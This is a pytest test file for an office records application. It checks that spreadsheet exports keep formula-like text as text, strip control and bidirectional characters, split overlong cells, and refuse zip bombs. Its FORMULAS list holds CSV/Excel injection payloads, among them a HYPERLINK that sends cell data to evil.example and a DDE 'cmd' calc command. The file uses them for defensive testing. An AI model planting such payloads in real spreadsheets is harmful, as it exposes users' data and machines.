"""Issue 10, points 3–5 and 8: an exported sheet is data, never code; stored text always exports
and comes back the same; a hostile file is refused in seconds and little memory; what Excel
cannot hold is split, and said so."""

from __future__ import annotations

import os
import re
import resource
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from officedesk.core import records, settings
from officedesk.core.directory import UNIT_LIST_SEPARATORS, UNITS
from officedesk.core.documents.incoming import INCOMING
from officedesk.core.errors import ValidationError
from officedesk.exchange import xlsx
from officedesk.store.models import Unit
from tests.exchange.builders import bomb_xlsx, build_xlsx

ROOT = Path(__file__).resolve().parents[2]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


def calamine_rows(path: Path) -> list[list[object]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


# ---------------------------------------------------------------- 10.3 formula injection


def test_exported_text_that_looks_like_a_formula_stays_text(db, admin, tmp_path):
    # a unit's 名称 holds no list separator (、，,；;): those formulas go in as 收文 titles only
    as_units = [text for text in FORMULAS if not UNIT_LIST_SEPARATORS.search(text)]
    assert len(as_units) >= 3
    for text in as_units:
        records.create(UNITS, {"单位名称": text}, admin)
    for text in FORMULAS:
        records.create(INCOMING, {"收文日期": "2026-01-05", "来文机关": "市委办", "标题": text}, admin)
    path = tmp_path / "units.xlsx"
    xlsx.export(UNITS, path, admin)
    assert "<f>" not in sheet_xml(path)  # no formula anywhere in the file
    book = openpyxl.load_workbook(path)
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(as_units)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, and stays so when edited
    assert sorted(r[0] for r in calamine_rows(path)[1:]) == sorted(as_units)

    path = tmp_path / "incoming.xlsx"
    xlsx.export(INCOMING, path, admin)
    assert "<f>" not in sheet_xml(path)
    shown = [cell for row in calamine_rows(path)[1:] for cell in row]
    assert all(text in shown for text in FORMULAS)


# ---------------------------------------------------------------- 10.4 control characters


def test_input_strips_control_characters(db, admin):
    unit = records.create(UNITS, {"单位名称": "县委\x07办公\x00室\x1b", "简称": "\x0b委办"}, admin)
    assert (unit.name, unit.short_name) == ("县委办公室", "委办")


def test_zero_width_spaces_are_not_text(db, admin):
    """A title of zero-width spaces alone is empty (required), and one pasted into a name is
    dropped: the same unit, not a look-alike (a 收文's duplicate 来文机关 was not recognised)."""
    import pytest

    from officedesk.core import converters
    from officedesk.core.errors import ValidationError

    with pytest.raises(ValidationError, match="请填写“单位名称”"):
        records.create(UNITS, {"单位名称": "\u200b\u200b", "简称": "甲"}, admin)
    unit = records.create(UNITS, {"单位名称": "县委\u200b办公室\ufeff", "简称": "委\u2060办"}, admin)
    assert (unit.name, unit.short_name) == ("县委办公室", "委办")
    with converters.compiled(UNITS):  # the batch import's fast path does the same
        values = records.parse_values(UNITS, {"单位名称": "县\u200b政府", "简称": "县府"})
    assert values["name"] == "县政府"


def test_invisible_direction_and_joining_marks_are_not_stored(db, admin):
    """Bidirectional overrides (U+202E shows 云财〔2026〕777号 written backwards on screen, a
    “Trojan source”), direction marks, joiners and soft hyphens are as invisible as a
    zero-width space: a 来文机关 or a name holding one reads the same as another and hides a
    duplicate. None of them belongs in an office's Chinese records."""
    from officedesk.core import converters

    marks = "\u202e\u202a\u2066\u2069\u200e\u200f\u200c\u200d\u00ad\u2061\u180e"
    unit = records.create(UNITS, {"单位名称": "县委" + marks + "办公室", "简称": "委\u202e办"}, admin)
    assert (unit.name, unit.short_name) == ("县委办公室", "委办")
    with converters.compiled(UNITS):  # the batch import's fast path does the same
        values = records.parse_values(UNITS, {"单位名称": "县\u200d政府\u202c", "简称": "县府"})
    assert values["name"] == "县政府"


def test_stored_control_characters_export_and_round_trip(db, admin, tmp_path):
    """Data stored before input stripped them (or written by another program) never breaks an
    export: each character comes back from the file as it was stored."""
    stored = ["县委\x07办公室", "NUL\x00在中间", "换页\x0c与转义\x1b", "看似转义_x0041_的文字", "a\tb\nc"]
    for index, text in enumerate(stored):
        unit = records.create(UNITS, {"单位名称": f"单位{index}"}, admin)
        Unit.update(short_name=text).where(Unit.id == unit.id).execute()  # as if stored long ago
    path = tmp_path / "units.xlsx"
    assert xlsx.export(UNITS, path, admin) == len(stored)
    shorts = {row[0]: row[1] for row in calamine_rows(path)[1:]}
    assert [shorts[f"单位{i}"] for i in range(len(stored))] == stored
    # and the command line does not fail on it either (it exited 3 before)
    result = subprocess.run(
        [sys.executable, "-m", "officedesk", "export", "units", str(tmp_path / "c.xlsx"),
         "--db", str(tmp_path / "officedesk.db")],
        cwd=ROOT, env=_env(tmp_path), capture_output=True, text=True, timeout=120,
    )
    assert result.returncode == 0, result.stderr


# ---------------------------------------------------------------- 10.8 what Excel cannot hold


def test_text_longer_than_a_cell_is_split_and_said(db, admin, tmp_path):
    long_text = "甲" * 40000 + "乙" * 30000  # 70,000 characters: three Excel cells
    unit = records.create(UNITS, {"单位名称": "县档案馆"}, admin)
    Unit.update(short_name=long_text).where(Unit.id == unit.id).execute()
    path = tmp_path / "long.xlsx"
    result = xlsx.export(UNITS, path, admin)
    assert result == 1 and len(result.notes) == 1
    assert "70000 字" in result.notes[0] and "分 3 段" in result.notes[0]
    book = CalamineWorkbook.from_path(str(path))
    main = book.get_sheet_by_name("单位").to_python()[1][1]
    assert len(main) <= 32767 and main.startswith("甲" * 100) and "超长内容" in main
    parts = book.get_sheet_by_name("超长内容").to_python()[1:]
    assert [p[:3] for p in parts] == [[2.0, "简称", 1.0], [2.0, "简称", 2.0], [2.0, "简称", 3.0]]
    assert "".join(p[3] for p in parts) == long_text  # nothing lost
    # importing the cut cell as a new record is refused, not stored cut
    Unit.delete().execute()
    report = xlsx.import_file(UNITS, path, admin)
    assert not report.ok and "只有导出时截下的开头" in report.problems[0].reason


# ---------------------------------------------------------------- 10.5 zip bombs and caps


def _env(tmp_path: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("OFFICEDESK_")}
    env.update(
        OFFICEDESK_HOME=str(tmp_path / "home"),
        PYTHONPATH=str(ROOT),
        PYTHONIOENCODING="utf-8",
    )
    return env


# The child reports its own peak memory (VmHWM belongs to the program after exec; ru_maxrss
# of a forked child would count the pytest process it was forked from).
_MEASURED = """
import sys
from officedesk.cli import main
code = main(sys.argv[1:])
peak = next(line for line in open("/proc/self/status") if line.startswith("VmHWM"))
sys.stderr.write("\\nPEAK_KB " + peak.split()[1] + "\\n")
sys.exit(code)
"""


def _limited_import(tmp_path: Path, registry: str, path: Path) -> tuple[int, str, float]:
    """`import --dry-run` in a child process capped at 5 s of CPU; returns its exit code, stderr
    and peak memory (MB)."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (5, 5))

    result = subprocess.run(
        [sys.executable, "-c", _MEASURED, "import", registry, str(path), "--dry-run",
         "--db", str(tmp_path / "officedesk.db")],
        cwd=ROOT, env=_env(tmp_path), capture_output=True, text=True, preexec_fn=cap,
        timeout=120,
    )
    peak = re.search(r"PEAK_KB (\d+)", result.stderr)
    assert peak is not None, (result.returncode, result.stderr)
    return result.returncode, result.stderr, int(peak.group(1)) / 1024


@pytest.mark.parametrize(
    "kind, build, message",
    [
        ("10 M rows", dict(rows=10_000_000), "行数超过上限 200,000 行"),
        ("a 1 GiB cell", dict(cell_bytes=1 << 30), "解压后超过 512 MB"),
        ("a 2 MiB cell", dict(cell_bytes=2 << 20), "有一格的内容超过 256 KB"),
    ],
)
def test_zip_bombs_are_refused_within_5_s_and_300_mb(db, tmp_path, kind, build, message):
    path = bomb_xlsx(tmp_path / "bomb.xlsx", **build)
    assert path.stat().st_size < 4 * 1024 * 1024
    code, stderr, peak_mb = _limited_import(tmp_path, "units", path)
    assert code == 1, (kind, code, stderr)  # refused; a CPU-time kill would be -9 or -24
    assert message in stderr and "Traceback" not in stderr
    assert peak_mb < 300, (kind, peak_mb)


def test_row_cap_is_a_setting(db, admin, tmp_path):
    rows = [["单位名称"]] + [[f"单位{i}"] for i in range(30)]
    path = build_xlsx(tmp_path / "units.xlsx", rows)
    settings.put("exchange.max_rows", 20)
    with pytest.raises(ValidationError, match="行数超过上限 20 行"):
        xlsx.import_file(UNITS, path, admin, dry_run=True)
    settings.put("exchange.max_rows", 30)
    assert xlsx.import_file(UNITS, path, admin, dry_run=True).ok


def test_too_long_cell_is_a_row_problem(db, admin, tmp_path):
    path = build_xlsx(tmp_path / "u.xlsx", [["单位名称", "简称"], ["县委办", "长" * 40000]])
    report = xlsx.import_file(UNITS, path, admin, dry_run=True)
    assert [(p.row, p.column) for p in report.problems] == [(2, "简称")]
    assert "40000 字，超过 Excel 单元格 32767 字的上限" in report.problems[0].reason


def test_problems_stop_at_100_and_say_how_many_more(db, admin, tmp_path):
    rows = [["名称", "容量"]] + [[f"会议室{i}", "很多"] for i in range(250)]
    path = build_xlsx(tmp_path / "rooms.xlsx", rows)
    from officedesk.core.directory import ROOMS

    report = xlsx.import_file(ROOMS, path, admin)
    assert len(report.problems) == 100 and report.more_problems == 150
    assert "250 行有问题" in report.summary()
    assert report.more_text() == "……另有 150 处问题未列出。"
    assert re.search(r"第 101 行", str(report.problems[-1]))


def test_export_never_fails_on_stored_values_excel_cannot_type(db, admin, tmp_path):
    """Dates before 1900-03-01 and integers beyond 15 digits have no Excel cell of their type:
    they go out as text, readable again, instead of wrong dates or rounded numbers."""
    import datetime as dt

    first = records.create(INCOMING, {"收文日期": "2026-01-05", "来文机关": "市委办", "标题": "甲"}, admin)
    model = INCOMING.model
    model.update(received_on=dt.date(1, 1, 1), due_on=dt.date(9999, 12, 31), copies=2**62).where(
        model.id == first.id
    ).execute()
    path = tmp_path / "odd.xlsx"
    assert xlsx.export(INCOMING, path, admin) == 1
    row = dict(zip(*calamine_rows(path)[:2], strict=True))
    assert row["收文日期"] == "0001-01-01" and row["份数"] == str(2**62)
    assert row["办理时限"] == dt.date(9999, 12, 31)


def test_an_ods_with_a_cell_repeated_across_the_sheet_is_refused(db, admin, tmp_path):
    """One stored cell "repeated" 16,384 columns wide in every row: a reader would build them all."""
    source = ROOT.parent / "shared" / "fixtures" / "spreadsheets" / "ods" / "units.ods"
    with zipfile.ZipFile(source) as archive:
        parts = [(info, archive.read(info.filename)) for info in archive.infolist()]
    target = tmp_path / "wide.ods"
    with zipfile.ZipFile(target, "w") as archive:
        for info, data in parts:
            if info.filename == "content.xml":
                data = data.replace(
                    b'<table:table-cell office:value-type="string"',
                    b'<table:table-cell table:number-columns-repeated="16384" '
                    b'office:value-type="string"',
                    3,
                )
                assert b"16384" in data
            method = zipfile.ZIP_STORED if info.filename == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(info, data, compress_type=method)
    with pytest.raises(ValidationError, match="列数超过 702 列"):
        xlsx.import_file(UNITS, target, admin, dry_run=True)
